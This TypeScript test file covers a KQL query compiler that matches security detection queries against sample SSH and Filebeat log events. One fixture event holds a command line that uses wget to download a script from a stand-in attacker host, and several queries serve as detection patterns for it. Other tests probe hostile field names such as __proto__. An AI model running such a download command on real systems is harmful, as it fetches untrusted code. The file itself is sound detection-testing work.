import assert from "node:assert/strict";
import { test } from "node:test";
import { compileKql, KqlSyntaxError } from "./index.ts";

/** Our own event shape: nested ECS objects, `@timestamp` in epoch ms. */
const sshd = {
  "@timestamp": Date.UTC(2024, 0, 15, 10, 30, 0),
  event: { dataset: "sshd", action: "ssh_invalid_user", outcome: "failure", category: ["authentication"] },
  source: { ip: "203.0.113.7", port: 52144 },
  user: { name: "admin" },
  host: { name: "web-1" },
  process: { name: "sshd", pid: 4242, command_line: "/usr/bin/wget http://evil.example/x.sh -O /tmp/x" },
  http: { response: { status_code: 401 } },
  tags: ["brute", "ssh"],
  enabled: true,
  note: null,
  message: "Invalid user admin from 203.0.113.7 port 52144",
};

/** A Filebeat (system module) document: ISO timestamp, mixed nested and flattened dotted keys. */
const filebeat = {
  "@timestamp": "2024-01-15T10:30:00.000Z",
  "event.dataset": "system.auth",
  event: { module: "system", outcome: "failure" },
  system: { "auth.ssh": { event: "Failed", method: "password" } },
  "source.ip": "2001:db8::7",
  source: { port: "52144" },
  "user.name": "root",
  message: "Failed password for root from 2001:db8::7 port 52144 ssh2",
};

const cases: [query: string, event: object, expected: boolean][] = [
  // the two examples from the rule docs
  ['event.dataset: "system.auth" and system.auth.ssh.event: "Failed"', filebeat, true],
  ['event.dataset: "system.auth" and system.auth.ssh.event: "Accepted"', filebeat, false],
  ["event.dataset: sshd and event.action: (ssh_auth_failed or ssh_invalid_user)", sshd, true],
  ["event.dataset: sshd and event.action: (ssh_auth_failed or ssh_accepted)", sshd, false],
  // match-all
  ["", sshd, true],
  ["*", sshd, true],
  ["*:*", {}, true],
  ["  ", {}, true],
  // exact, case-sensitive keyword matching
  ["event.dataset: sshd", sshd, true],
  ["event.dataset: SSHD", sshd, false],
  ["event.dataset: ssh", sshd, false],
  ['event.dataset: "sshd"', sshd, true],
  ["EVENT.DATASET: sshd", sshd, false],
  ["host.name: web-1", sshd, true],
  // keywords in any case, precedence not > and > or
  ["event.dataset: nginx or event.dataset: sshd and user.name: admin", sshd, true],
  ["(event.dataset: nginx or event.dataset: sshd) and user.name: root", sshd, false],
  ["event.dataset: nginx or event.dataset: sshd and user.name: root", sshd, false],
  ["user.name: root or event.dataset: sshd", sshd, true],
  ["not user.name: root and event.dataset: sshd", sshd, true],
  ["not (user.name: admin and event.dataset: sshd)", sshd, false],
  ["NOT user.name: admin OR event.dataset: sshd", sshd, true],
  ["not not user.name: admin", sshd, true],
  ["not(user.name: admin)", sshd, false],
  ["user.name: admin AnD event.outcome: failure", sshd, true],
  // value lists
  ["user.name: (root or admin)", sshd, true],
  ["user.name: (root or guest)", sshd, false],
  ["tags: (brute and ssh)", sshd, true],
  ["tags: (brute and http)", sshd, false],
  ["user.name: (not root)", sshd, true],
  ["user.name: (root or not guest and admin)", sshd, true],
  ['user.name: ("root" or "admin")', sshd, true],
  ["event.action: (a or b or c or d or ssh_invalid_user)", sshd, true],
  // numbers compare numerically, strings that look like numbers match numbers
  ["http.response.status_code: 401", sshd, true],
  ['http.response.status_code: "401"', sshd, true],
  ["http.response.status_code: 401.0", sshd, true],
  ["http.response.status_code: 4.01e2", sshd, true],
  ["http.response.status_code: 403", sshd, false],
  ["source.port: 52144", filebeat, true],
  ["source.port: 52144.0", filebeat, false],
  ["process.pid: 4242 and source.port: 52144", sshd, true],
  // booleans and null
  ["enabled: true", sshd, true],
  ["enabled: false", sshd, false],
  ['enabled: "true"', sshd, true],
  ["note: null", sshd, true],
  ["note: *", sshd, false],
  ["user.name: null", sshd, false],
  // wildcards on keyword fields: anchored, case-sensitive, every other character literal
  ["user.name: adm*", sshd, true],
  ["user.name: *min", sshd, true],
  ["user.name: a*n", sshd, true],
  ["user.name: *dmi*", sshd, true],
  ["user.name: Adm*", sshd, false],
  ["user.name: dmi*", sshd, false],
  ["user.name: a*d*m*i*n", sshd, true],
  ["user.name: a*n*n", sshd, false],
  ["user.name: ad?in", sshd, false],
  ["process.command_line: *wget*", sshd, true],
  ["process.command_line: *curl*", sshd, false],
  ["process.command_line: */tmp/x", sshd, true],
  ["process.command_line: *evil.example*x.sh*", sshd, true],
  ['process.command_line: "*wget*"', sshd, false],
  ["process.command_line: \\*wget\\*", sshd, false],
  ["http.response.status_code: 40*", sshd, true],
  ["http.response.status_code: 50*", sshd, false],
  // exists
  ["user.name: *", sshd, true],
  ["user.email: *", sshd, false],
  ["not user.email: *", sshd, true],
  ["user: *", sshd, true],
  ["tags: *", sshd, true],
  ["tags: *", { tags: [] }, false],
  ["tags: *", { tags: [null] }, false],
  ["user.name: *", { user: { name: "" } }, true],
  ["system.auth.ssh.method: *", filebeat, true],
  // arrays: any element
  ["tags: ssh", sshd, true],
  ["tags: http", sshd, false],
  ["event.category: authentication", sshd, true],
  ["tags: br*", sshd, true],
  ["tags: ssh and tags: brute", sshd, true],
  ["ids: 3", { ids: [1, [2, [3]]] }, true],
  [
    "threat.technique.id: T1110",
    { threat: [{ technique: { id: "T1059" } }, { technique: { id: "T1110" } }] },
    true,
  ],
  // IP addresses: CIDR, any spelling
  ["source.ip: 203.0.113.0/24", sshd, true],
  ["source.ip: 203.0.113.7", sshd, true],
  ["source.ip: 203.0.113.8", sshd, false],
  ["source.ip: 10.0.0.0/8", sshd, false],
  ['source.ip: "203.0.113.0/24"', sshd, true],
  ["source.ip: 0.0.0.0/0", sshd, true],
  ["source.ip: 203.000.113.007", sshd, true],
  ["source.ip: ::ffff:203.0.113.7", sshd, true],
  ["source.ip: 10.0.0.0/8", { source: { ip: "::ffff:10.1.2.3" } }, true],
  // An IPv4-mapped range (how Elasticsearch stores IPv4) is the IPv4 range of its last 32 bits.
  ['source.ip: "::ffff:203.0.113.0/120"', sshd, true],
  ['source.ip: "::ffff:10.0.0.0/104"', sshd, false],
  ["source.ip: 2001:db8::/32", filebeat, true],
  ["source.ip: 2001:db8:0:0::7", filebeat, true],
  ['source.ip: "2001:DB8::7"', filebeat, true],
  ["source.ip: 2001:db9::/32", filebeat, false],
  ["source.ip: 203.0.113.0/24", filebeat, false],
  ["source.ip: (10.0.0.0/8 or 203.0.113.0/24)", sshd, true],
  ["not source.ip: (10.0.0.0/8 or 192.168.0.0/16)", sshd, true],
  ["source.ip: 203.0.113.*", sshd, true],
  ["source.ip: not-an-ip", { source: { ip: "not-an-ip" } }, true],
  ["related.ip: 10.0.0.0/8", { related: { ip: ["192.0.2.1", "10.9.9.9"] } }, true],
  // ranges: numbers, strings that parse as numbers, dates (epoch ms and ISO text), string order otherwise
  ["http.response.status_code >= 400", sshd, true],
  ["http.response.status_code > 401", sshd, false],
  ["http.response.status_code <= 401", sshd, true],
  ["http.response.status_code < 401", sshd, false],
  ["http.response.status_code>=400 and http.response.status_code<500", sshd, true],
  ["source.port > 1024", filebeat, true],
  ['source.port < "1024"', filebeat, false],
  ["@timestamp >= 2024-01-15T10:00:00Z", sshd, true],
  ["@timestamp >= 2024-01-15T11:00:00Z", sshd, false],
  ["@timestamp >= 2024-01-15T12:00:00+02:00", sshd, true],
  ['@timestamp < "2024-01-16"', sshd, true],
  ["@timestamp < 2024-01-15", sshd, false],
  ["@timestamp > 2024", sshd, true],
  [`@timestamp >= ${Date.UTC(2024, 0, 15, 10, 30)}`, sshd, true],
  ["@timestamp >= 2024-01-15T10:00:00Z", filebeat, true],
  ["@timestamp > 2024-01-15T10:30:00Z", filebeat, false],
  ["@timestamp: 2024-01-15T10:30:00Z", sshd, true],
  ["@timestamp: 2024-01-15T10:30:00.000Z", filebeat, true],
  ["source.ip >= 203.0.113.0 and source.ip <= 203.0.113.255", sshd, true],
  ["source.ip > 203.0.113.10", sshd, false],
  ["source.ip > 99.0.0.0", sshd, true],
  ["source.ip < 2001:db8::8", filebeat, true],
  ["source.ip < 10.0.0.0", filebeat, false],
  ["user.name >= adm", sshd, true],
  ["user.name > b", sshd, false],
  ["missing > 1", sshd, false],
  ["note > 1", sshd, false],
  ["tags > r", sshd, true],
  // message: word matching, case-insensitive; phrases in order; wildcards per word or whole message
  ["message: invalid", sshd, true],
  ["message: INVALID", sshd, true],
  ["message: valid", sshd, false],
  ["message: admin invalid", sshd, true],
  ["message: admin root", sshd, false],
  ['message: "invalid user admin"', sshd, true],
  ['message: "user invalid"', sshd, false],
  ['message: "Invalid   USER"', sshd, true],
  ['message: "from 203.0.113.7 port"', sshd, true],
  ["message: inv*", sshd, true],
  ["message: *port 52144", sshd, true],
  ["message: *from 203.0.113.7*", sshd, true],
  ["message: nval*", sshd, false],
  ["message: 52144", sshd, true],
  ['message: "Failed password"', filebeat, true],
  // an empty phrase is the empty message, not a substring of every message (Elasticsearch: no match at all)
  ['message: ""', sshd, false],
  ['not message: ""', sshd, true],
  ['message: ""', { message: "" }, true],
  ['""', sshd, false],
  ['message: "../.."', { message: "GET /a/../../etc" }, true],
  // free text goes to `message`
  ["invalid", sshd, true],
  ["root", sshd, false],
  ['"invalid user"', sshd, true],
  ["*ssh2", filebeat, true],
  ["failed and event.dataset: system.auth", filebeat, true],
  // field names: wildcards, quoted, escaped, nested and flattened alike
  ["user.*: admin", sshd, true],
  ["user.*: root", sshd, false],
  ["user.*: root", filebeat, true],
  ["*: admin", sshd, true],
  ["*.name: web-1", sshd, true],
  ["system.*: Failed", filebeat, true],
  ["system.auth.*: password", filebeat, true],
  ["user.*: *", sshd, true],
  ["user.*: *", filebeat, true],
  ["geo.*: *", sshd, false],
  ["*.status_code >= 400", sshd, true],
  ['"user.name": admin', sshd, true],
  ['"a b": x', { "a b": "x" }, true],
  // nested objects: the inner query must hold for one element
  [
    "items:{ name: apple and qty > 3 }",
    {
      items: [
        { name: "apple", qty: 2 },
        { name: "pear", qty: 5 },
      ],
    },
    false,
  ],
  [
    "items:{ name: apple and qty > 1 }",
    {
      items: [
        { name: "apple", qty: 2 },
        { name: "pear", qty: 5 },
      ],
    },
    true,
  ],
  ["items: { name: pear }", { items: { name: "pear" } }, true],
  ["a:{ b:{ c: 1 } }", { a: [{ b: [{ c: 2 }, { c: 1 }] }] }, true],
  // escapes
  ["path: C\\:\\\\Windows", { path: "C:\\Windows" }, true],
  ['path: "C:\\\\Windows"', { path: "C:\\Windows" }, true],
  ['path: "C:\\Windows"', { path: "C:\\Windows" }, true],
  ['q: \\(a\\)\\ \\{b\\}\\<c\\>\\"d\\"', { q: '(a) {b}<c>"d"' }, true],
  ["q: a\\tb", { q: "a\tb" }, true],
  ["q: \\u0041", { q: "A" }, true],
  ["q: \\or", { q: "or" }, true],
  ['q: "say \\"hi\\""', { q: 'say "hi"' }, true],
  ["q: hello world", { q: "hello world" }, true],
  ["q: hello world ", { q: "hello world" }, true],
  ["q: hello\\ ", { q: "hello " }, true],
  ["q: cannot be", { q: "cannot be" }, true],
  // lenient extras: unquoted IPv6 and ISO date-times after a range operator
  ["@timestamp<2024-01-16T00:00:00.000Z", sshd, true],
  // hostile field names read only own properties
  ["constructor: *", sshd, false],
  ["__proto__: *", sshd, false],
  ["toString: *", {}, false],
  ["message.length: 46", sshd, false],
  ["tags.length: 2", sshd, false],
  ["hasOwnProperty: x", { hasOwnProperty: "x" }, true],
];

test("table: query x event -> match", () => {
  for (const [query, event, expected] of cases) {
    assert.equal(compileKql(query)(event), expected, `${query} on ${JSON.stringify(event).slice(0, 60)}`);
  }
});

test("date fields take dates only: date math and other text are refused when compiled, with the column", () => {
  // Before: `@timestamp < now-15m` compared as text, true for every ISO timestamp ("2..." < "n..."), never for
  // epoch ms. Elasticsearch rejects a non-date there; Kibana's date math has no meaning for a rule.
  for (const q of ["@timestamp < now-15m", "@timestamp >= now-1h/h", 'x: 1 and @timestamp: "now"']) {
    assert.throws(
      () => compileKql(q),
      (e: unknown) =>
        e instanceof KqlSyntaxError &&
        e.code === "KQL_SYNTAX" &&
        /^Expected a date \(ISO 8601 or epoch milliseconds\) for "@timestamp" at column \d+, found "now/.test(
          e.message,
        ) &&
        e.message.includes("date math is not supported") &&
        e.column === q.indexOf("now") + 1,
      q,
    );
  }
  assert.throws(
    () => compileKql("@timestamp > yesterday"),
    /for "@timestamp" at column 14, found "yesterday"/,
  );
  assert.throws(() => compileKql("a:{ when < soon }", { dateFields: ["a.when"] }), /for "a.when"/);
  // dates, epoch ms, wildcards, exists and non-date fields are fine
  for (const q of [
    "@timestamp < 2024-01-15",
    "@timestamp: 1705314600000",
    "@timestamp: *",
    "@timestamp: 2024*",
  ]) {
    assert.doesNotThrow(() => compileKql(q), q);
  }
  assert.equal(compileKql("note < now-15m")({ note: "abc" }), true);
});

test("text fields are configurable; other fields match exactly", () => {
  const e = { message: "Invalid user admin", reason: "Invalid user admin" };
  assert.equal(compileKql("reason: invalid")(e), false);
  assert.equal(compileKql("reason: invalid", { textFields: ["message", "reason"] })(e), true);
  assert.equal(compileKql("message: invalid", { textFields: [] })(e), false);
});

test("ECS ip fields not ending in .ip (dns.resolved_ip, network.forwarded_ip) match CIDRs and any spelling", () => {
  const e = {
    dns: { resolved_ip: ["192.0.2.7", "2001:db8::1"] },
    network: { forwarded_ip: "::ffff:10.1.2.3" },
  };
  assert.equal(compileKql("dns.resolved_ip: 192.0.2.0/24")(e), true);
  assert.equal(compileKql("dns.resolved_ip: 2001:DB8:0::1")(e), true);
  assert.equal(compileKql("network.forwarded_ip: 10.0.0.0/8")(e), true);
  assert.equal(compileKql("network.forwarded_ip: 192.168.0.0/16")(e), false);
});

test("IP and date fields are configurable", () => {
  const e = { peer: "10.1.2.3", when: Date.UTC(2024, 0, 1) };
  assert.equal(compileKql("peer: 10.0.0.0/8")(e), false);
  assert.equal(compileKql("peer: 10.0.0.0/8", { ipFields: ["peer"] })(e), true);
  assert.equal(compileKql("when >= 2024-01-01", { dateFields: ["when"] })(e), true);
  assert.equal(compileKql("when >= 2024", { dateFields: ["when"] })(e), true);
  assert.equal(compileKql("when > 2024")(e), true);
});

test("predicates carry their source, fields, syntax tree and required equalities", () => {
  const p = compileKql("event.dataset: sshd and (user.name: root or items:{ name: x }) and free");
  assert.equal(p.source, "event.dataset: sshd and (user.name: root or items:{ name: x }) and free");
  assert.deepEqual(p.fields, ["event.dataset", "user.name", "items", "items.name", "message"]);
  assert.equal(p.ast.type, "and");
  assert.deepEqual([...p.required], [["event.dataset", new Set(["sshd"])]]);
});

test("evaluation never throws, whatever the event", () => {
  const p = compileKql(
    "a: x or b > 3 or c: * or d.*: y or e:{ f: 1 } or message: w* or source.ip: 10.0.0.0/8 or @timestamp > 2024",
  );
  const cyclic: Record<string, unknown> = { a: 1 };
  cyclic.d = cyclic;
  let deep: unknown = "x";
  for (let i = 0; i < 10_000; i++) deep = [deep];
  const weird: unknown[] = [
    null,
    undefined,
    0,
    "",
    [],
    cyclic,
    { a: deep, c: deep, e: deep },
    Object.create(null),
  ];
  for (const e of weird) assert.doesNotThrow(() => p(e as object));
});
